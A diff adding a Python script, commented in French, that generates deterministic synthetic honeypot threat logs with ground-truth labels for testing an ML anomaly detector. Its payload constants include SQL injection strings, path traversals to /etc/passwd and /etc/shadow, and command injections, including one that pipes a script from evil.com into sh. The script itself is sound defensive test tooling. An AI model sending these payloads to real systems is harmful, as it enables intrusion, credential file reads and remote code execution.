@@ -0,0 +1,383 @@
+#!/usr/bin/env python3
+"""
+Générateur déterministe de menaces synthétiques
+Produit des millions de menaces réalistes au format Threat.to_dict():
+trafic de fond avec un cycle jour/nuit, campagnes de brute force, rafales
+coordonnées multi-IPs et anomalies injectées dont la vérité terrain est
+connue (pour mesurer précision et rappel du détecteur ML).
+
+Usage: python synthetic_threats.py --count 1000000 --output threats.jsonl [--labels labels.csv] [--end 2025-07-08]
+"""
+
+import argparse
+import json
+from datetime import datetime, timedelta
+
+import numpy as np
+
+# Scénario de chaque menace générée (vérité terrain)
+SCENARIOS = [
+    'background',           # Trafic de fond
+    'brute_force_campaign', # Une IP, centaines de tentatives SSH/Telnet
+    'coordinated_burst',    # Nombreuses IPs en moins d'une minute
+    'oversized_payload',    # Anomalie: requête HTTP démesurée
+    'cross_service',        # Anomalie: injection sur SSH/Telnet depuis un port privilégié
+    'night_exfiltration'    # Anomalie: injection de commandes en pleine nuit, gros payload
+]
+FIRST_ANOMALY = SCENARIOS.index('oversized_payload')
+
+# Fin de la période générée par défaut: fixe, pour que la même graine donne
+# les mêmes dates, le même ordre et les mêmes ids d'une exécution à l'autre
+DEFAULT_END = datetime(2025, 7, 8)
+
+HOUR_US = 3600 * 1_000_000
+DAY_US = 24 * HOUR_US
+
+SERVICES = ['ssh', 'http', 'telnet']
+ATTACK_TYPES = ['brute_force', 'reconnaissance', 'unauthorized_access', 'sql_injection',
+                'path_traversal', 'command_injection', 'port_scan']
+
+# Répartition des attaques HTTP du trafic de fond
+HTTP_ATTACKS = {
+    'reconnaissance': 0.45,
+    'unauthorized_access': 0.3,
+    'sql_injection': 0.1,
+    'path_traversal': 0.1,
+    'command_injection': 0.05
+}
+
+# Scores de risque du honeypot (AttackLogger._calculate_risk_score)
+RISK_SCORES = {
+    'brute_force': 5,
+    'command_injection': 8,
+    'sql_injection': 7,
+    'port_scan': 3,
+    'unauthorized_access': 4
+}
+
+HTTP_PATHS = {
+    'reconnaissance': ['/', '/robots.txt', '/api/v1/users', '/dashboard', '/cpanel', '/.git/config', '/server-status'],
+    'unauthorized_access': ['/admin', '/login', '/wp-admin', '/phpmyadmin', '/.env', '/config.php', '/backup.sql'],
+    'sql_injection': ['/login', '/search', '/products'],
+    'path_traversal': ['/../../etc/passwd', '/static/../../../etc/shadow', '/download/../../app/config.py'],
+    'command_injection': ['/cgi-bin/admin.cgi', '/ping', '/api/exec']
+}
+HTTP_QUERIES = {
+    'sql_injection': ["user=' OR '1'='1", "id=1 UNION SELECT username,password FROM users--",
+                      "q=admin' AND 1=1#"],
+    'command_injection': ["cmd=;cat /etc/passwd", "host=127.0.0.1|whoami", "cmd=$(curl http://evil.com/x.sh|sh)"]
+}
+USER_AGENTS = [
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+    'curl/8.4.0', 'python-requests/2.31.0', 'sqlmap/1.7.11#stable (https://sqlmap.org)',
+    'Nikto/2.5.0', 'Go-http-client/1.1', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'
+]
+SSH_BANNERS = ['SSH-2.0-libssh_0.9.6\r\n', 'SSH-2.0-Go\r\n', 'SSH-2.0-OpenSSH_7.4\r\n',
+               'SSH-2.0-PuTTY_Release_0.79\r\n', 'SSH-2.0-paramiko_3.3.1\r\n']
+TELNET_USERS = ['root', 'admin', 'user', 'support', 'guest', 'ubnt', 'pi']
+TELNET_PASSWORDS = ['admin', '123456', 'password', 'root', 'default', '1234', 'raspberry', 'xc3511']
+
+
+class ThreatGenerator:
+    """Génère des menaces synthétiques reproductibles (même graine, même jeu de données)
+
+    Les colonnes (dates, IPs, services, types...) sont tirées d'un coup avec
+    NumPy; seuls les dictionnaires sont construits par lots.
+    """
+
+    def __init__(self, seed=42, days=7, end=None, honeypots=3, attackers=20_000,
+                 campaign_share=0.2, burst_share=0.05, anomaly_rate=0.005):
+        self.seed = seed
+        self.days = days
+        self.end = end or DEFAULT_END
+        self.honeypots = [f"honeypot-{i:03d}" for i in range(1, honeypots + 1)]
+        self.attackers = attackers
+        self.campaign_share = campaign_share
+        self.burst_share = burst_share
+        self.anomaly_rate = anomaly_rate
+
+    def columns(self, n):
+        """Colonnes des n menaces triées par date (ids croissants)
+
+        Retourne un dict de tableaux: timestamp (µs epoch), ip, honeypot,
+        service, attack_type, attacker_port, risk_score, variant (choix des
+        valeurs du payload), payload_size et scenario.
+        """
+        rng = np.random.default_rng(self.seed)
+        n_anomalies = int(round(n * self.anomaly_rate))
+        n_campaigns = int(round(n * self.campaign_share))
+        n_bursts = int(round(n * self.burst_share))
+        n_background = n - n_anomalies - n_campaigns - n_bursts
+
+        parts = [
+            self._background(rng, n_background),
+            self._campaigns(rng, n_campaigns),
+            self._bursts(rng, n_bursts),
+            self._anomalies(rng, n_anomalies)
+        ]
+        columns = {name: np.concatenate([part[name] for part in parts]) for name in parts[0]}
+
+        # Champs communs
+        columns['honeypot'] = rng.integers(0, len(self.honeypots), n)
+        columns['variant'] = rng.integers(0, 1 << 30, n)
+        ports = rng.integers(32768, 61000, n)
+        ports[columns['service'] == SERVICES.index('http')] = 0  # HTTP ne remonte pas le port source
+        privileged = columns['scenario'] == SCENARIOS.index('cross_service')
+        ports[privileged] = rng.integers(1, 1024, privileged.sum())
+        columns['attacker_port'] = ports
+
+        # Les campagnes commencées en fin de période ne débordent pas dans le futur
+        end_us = self._start_us() + self.days * DAY_US
+        np.minimum(columns['timestamp'], end_us - 1, out=columns['timestamp'])
+
+        order = np.argsort(columns['timestamp'], kind='stable')
+        return {name: values[order] for name, values in columns.items()}
+
+    def iter_batches(self, n, batch_size=100_000):
+        """Itère sur (menaces, scénarios) par lots, ids de 1 à n dans l'ordre chronologique"""
+        columns = self.columns(n)
+        ips = self._ip_pool()
+        for start in range(0, n, batch_size):
+            end = min(start + batch_size, n)
+            yield self._build(columns, ips, start, end), columns['scenario'][start:end]
+
+    def generate(self, n):
+        """Toutes les menaces d'un coup: (liste de dicts, scénarios)"""
+        threats, scenarios = [], []
+        for batch, batch_scenarios in self.iter_batches(n):
+            threats.extend(batch)
+            scenarios.append(batch_scenarios)
+        return threats, np.concatenate(scenarios) if scenarios else np.empty(0, dtype=np.int64)
+
+    # === Scénarios ===
+
+    def _diurnal_times(self, rng, n):
+        """Dates avec un cycle jour/nuit (pic vers 15h, creux vers 3h)"""
+        hours = np.arange(24)
+        weights = 1 + 0.8 * np.cos(2 * np.pi * (hours - 15) / 24)
+        hour = rng.choice(24, n, p=weights / weights.sum())
+        day = rng.integers(0, self.days + 1, n)
+        seconds = rng.integers(0, HOUR_US, n)
+        midnight = self._start_us() - self._start_us() % DAY_US
+        return self._wrap(midnight + (day * 24 + hour) * HOUR_US + seconds)
+
+    def _start_us(self):
+        start = self.end - timedelta(days=self.days)
+        return int(np.datetime64(start, 'us').astype(np.int64))
+
+    def _wrap(self, timestamps):
+        """Ramène les dates dans [début, fin) par décalage de jours entiers (l'heure est conservée)"""
+        start = self._start_us()
+        span = self.days * DAY_US
+        timestamps = np.where(timestamps < start, timestamps + span, timestamps)
+        return np.where(timestamps >= start + span, timestamps - span, timestamps)
+
+    def _background(self, rng, n):
+        service = rng.choice(3, n, p=[0.4, 0.45, 0.15])
+        http_attacks = [ATTACK_TYPES.index(a) for a in HTTP_ATTACKS]
+        attack = np.where(
+            service == SERVICES.index('http'),
+            rng.choice(http_attacks, n, p=list(HTTP_ATTACKS.values())),
+            ATTACK_TYPES.index('brute_force')
+        )
+        return self._part(
+            timestamp=self._diurnal_times(rng, n),
+            ip=np.minimum(rng.zipf(1.3, n) - 1, self.attackers - 1),
+            service=service, attack_type=attack,
+            payload_size=np.zeros(n, dtype=np.int64), scenario=0, rng=rng
+        )
+
+    def _campaigns(self, rng, n):
+        """Campagnes de brute force: une IP, ~2s entre deux tentatives"""
+        sizes = _split_sizes(rng, n, low=100, high=2000)
+        starts = self._diurnal_times(rng, len(sizes))
+        gaps = rng.exponential(2_000_000, n).astype(np.int64)
+        campaign = np.repeat(np.arange(len(sizes)), sizes)
+        offsets = _cumsum_by_group(gaps, sizes)
+        return self._part(
+            timestamp=starts[campaign] + offsets,
+            ip=rng.integers(0, self.attackers, len(sizes))[campaign],
+            service=rng.choice([SERVICES.index('ssh'), SERVICES.index('telnet')], len(sizes))[campaign],
+            attack_type=np.full(n, ATTACK_TYPES.index('brute_force')),
+            payload_size=np.zeros(n, dtype=np.int64), scenario=1, rng=rng
+        )
+
+    def _bursts(self, rng, n):
+        """Rafales coordonnées: de nombreuses IPs, même attaque, en moins d'une minute"""
+        sizes = _split_sizes(rng, n, low=50, high=400)
+        starts = self._diurnal_times(rng, len(sizes))
+        burst = np.repeat(np.arange(len(sizes)), sizes)
+        attack = rng.choice([ATTACK_TYPES.index(a) for a in ('reconnaissance', 'unauthorized_access',
+                                                             'sql_injection')], len(sizes))
+        return self._part(
+            timestamp=starts[burst] + rng.integers(0, 60_000_000, n),
+            ip=rng.integers(0, self.attackers, n),
+            service=np.full(n, SERVICES.index('http')),
+            attack_type=attack[burst],
+            payload_size=np.zeros(n, dtype=np.int64), scenario=2, rng=rng
+        )
+
+    def _anomalies(self, rng, n):
+        """Anomalies injectées, réparties entre les trois scénarios anormaux"""
+        scenario = rng.integers(FIRST_ANOMALY, len(SCENARIOS), n)
+        timestamp = self._diurnal_times(rng, n)
+        service = np.full(n, SERVICES.index('http'))
+        attack = rng.choice([ATTACK_TYPES.index('sql_injection'), ATTACK_TYPES.index('command_injection')], n)
+        payload_size = np.zeros(n, dtype=np.int64)
+
+        oversized = scenario == SCENARIOS.index('oversized_payload')
+        payload_size[oversized] = rng.integers(4_000, 16_000, oversized.sum())
+
+        cross = scenario == SCENARIOS.index('cross_service')
+        service[cross] = rng.choice([SERVICES.index('ssh'), SERVICES.index('telnet')], cross.sum())
+
+        night = scenario == SCENARIOS.index('night_exfiltration')
+        day_start = timestamp[night] - timestamp[night] % DAY_US
+        timestamp[night] = self._wrap(day_start + rng.integers(1 * HOUR_US, 4 * HOUR_US, night.sum()))
+        attack[night] = ATTACK_TYPES.index('command_injection')
+        payload_size[night] = rng.integers(1_000, 3_000, night.sum())
+
+        part = self._part(timestamp=timestamp, ip=rng.integers(0, self.attackers, n), service=service,
+                          attack_type=attack, payload_size=payload_size, scenario=scenario, rng=rng)
+        part['risk_score'][:] = rng.integers(9, 11, n)
+        return part
+
+    def _part(self, timestamp, ip, service, attack_type, payload_size, scenario, rng):
+        n = len(timestamp)
+        attack_type = np.asarray(attack_type, dtype=np.int64)
+        risk = np.array([RISK_SCORES.get(a, 5) for a in ATTACK_TYPES], dtype=np.int64)[attack_type]
+        return {
+            'timestamp': np.asarray(timestamp, dtype=np.int64),
+            'ip': np.asarray(ip, dtype=np.int64),
+            'service': np.asarray(service, dtype=np.int64),
+            'attack_type': attack_type,
+            'risk_score': risk,
+            'payload_size': np.asarray(payload_size, dtype=np.int64),
+            'scenario': np.broadcast_to(np.asarray(scenario, dtype=np.int64), (n,)).copy()
+        }
+
+    # === Construction des dictionnaires ===
+
+    def _ip_pool(self):
+        """Adresses IPv4 publiques des attaquants (même graine, mêmes adresses)"""
+        rng = np.random.default_rng(self.seed + 1)
+        octets = rng.integers(1, 255, (self.attackers, 4))
+        octets[:, 0] = rng.choice([5, 23, 45, 61, 77, 89, 103, 118, 141, 185, 193, 212], self.attackers)
+        return ['.'.join(map(str, row)) for row in octets.tolist()]
+
+    def _build(self, columns, ips, start, end):
+        times = columns['timestamp'][start:end].astype('datetime64[us]').astype(datetime)
+        rows = zip(
+            range(start + 1, end + 1), times, columns['honeypot'][start:end].tolist(),
+            columns['service'][start:end].tolist(), columns['ip'][start:end].tolist(),
+            columns['attacker_port'][start:end].tolist(), columns['attack_type'][start:end].tolist(),
+            columns['risk_score'][start:end].tolist(), columns['variant'][start:end].tolist(),
+            columns['payload_size'][start:end].tolist()
+        )
+        return [
+            {
+                'id': threat_id,
+                'timestamp': timestamp.isoformat(),
+                'honeypot_id': self.honeypots[honeypot],
+                'service': SERVICES[service],
+                'attacker_ip': ips[ip],
+                'attacker_port': port,
+                'attack_type': ATTACK_TYPES[attack],
+                'risk_score': risk,
+                'payload': _payload(SERVICES[service], ATTACK_TYPES[attack], variant, size),
+                'anomaly_score': None,
+                'ip_tags': None,
+                'sample_rate': None
+            }
+            for threat_id, timestamp, honeypot, service, ip, port, attack, risk, variant, size in rows
+        ]
+
+
+def _payload(service, attack_type, variant, size):
+    """Payload au format du honeypot pour le service (size > 0: payload gonflé)"""
+    if service == 'ssh':
+        payload = {'client_banner': SSH_BANNERS[variant % len(SSH_BANNERS)], 'attempted_auth': 'password'}
+        if size:
+            payload['client_banner'] = f"SSH-2.0-{'A' * size}\r\n"
+        return payload
+    if service == 'telnet':
+        payload = {'username': TELNET_USERS[variant % len(TELNET_USERS)],
+                   'password': TELNET_PASSWORDS[(variant >> 4) % len(TELNET_PASSWORDS)]}
+        if attack_type in HTTP_QUERIES:
+            payload['username'] = HTTP_QUERIES[attack_type][variant % len(HTTP_QUERIES[attack_type])]
+        if size:
+            payload['password'] = 'x' * size
+        return payload
+
+    paths = HTTP_PATHS.get(attack_type, HTTP_PATHS['reconnaissance'])
+    queries = HTTP_QUERIES.get(attack_type)
+    user_agent = USER_AGENTS[(variant >> 8) % len(USER_AGENTS)]
+    query = queries[(variant >> 4) % len(queries)] if queries else ''
+    if size:
+        query = f"{query}&data={'A' * size}"
+    return {
+        'method': 'POST' if attack_type == 'command_injection' else 'GET',
+        'path': paths[variant % len(paths)],
+        'headers': {'Host': 'honeypot', 'User-Agent': user_agent, 'Accept': '*/*'},
+        'query': query,
+        'user_agent': user_agent
+    }
+
+
+def _split_sizes(rng, total, low, high):
+    """Découpe total en groupes de taille aléatoire dans [low, high]"""
+    sizes = []
+    remaining = total
+    while remaining > 0:
+        size = min(int(rng.integers(low, high + 1)), remaining)
+        sizes.append(size)
+        remaining -= size
+    return np.array(sizes, dtype=np.int64)
+
+
+def _cumsum_by_group(values, sizes):
+    """Somme cumulée de values remise à zéro au début de chaque groupe"""
+    if len(values) == 0:
+        return values
+    total = np.cumsum(values)
+    starts = np.concatenate(([0], np.cumsum(sizes)[:-1]))
+    base = np.repeat(total[starts] - values[starts], sizes)
+    return total - base
+
+
+def is_anomaly(scenarios):
+    """Vérité terrain: True pour les anomalies injectées"""
+    return np.asarray(scenarios) >= FIRST_ANOMALY
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument('--count', type=int, default=100_000)
+    parser.add_argument('--seed', type=int, default=42)
+    parser.add_argument('--days', type=int, default=7)
+    parser.add_argument('--end', type=datetime.fromisoformat, default=DEFAULT_END,
+                        help=f"fin de la période, UTC (défaut {DEFAULT_END.date()})")
+    parser.add_argument('--output', default='synthetic_threats.jsonl', help='fichier JSON lines (format attacks.log)')
+    parser.add_argument('--labels', help='fichier CSV id,scenario (vérité terrain)')
+    args = parser.parse_args()
+
+    generator = ThreatGenerator(seed=args.seed, days=args.days, end=args.end)
+    labels = open(args.labels, 'w') if args.labels else None
+    try:
+        if labels:
+            labels.write('id,scenario\n')
+        with open(args.output, 'w') as f:
+            for threats, scenarios in generator.iter_batches(args.count):
+                for threat in threats:
+                    f.write(json.dumps(threat) + '\n')
+                if labels:
+                    labels.writelines(f"{t['id']},{SCENARIOS[s]}\n" for t, s in zip(threats, scenarios.tolist()))
+    finally:
+        if labels:
+            labels.close()
+
+    print(f"✅ {args.count} menaces générées dans {args.output}")
+
+
+if __name__ == '__main__':
+    main()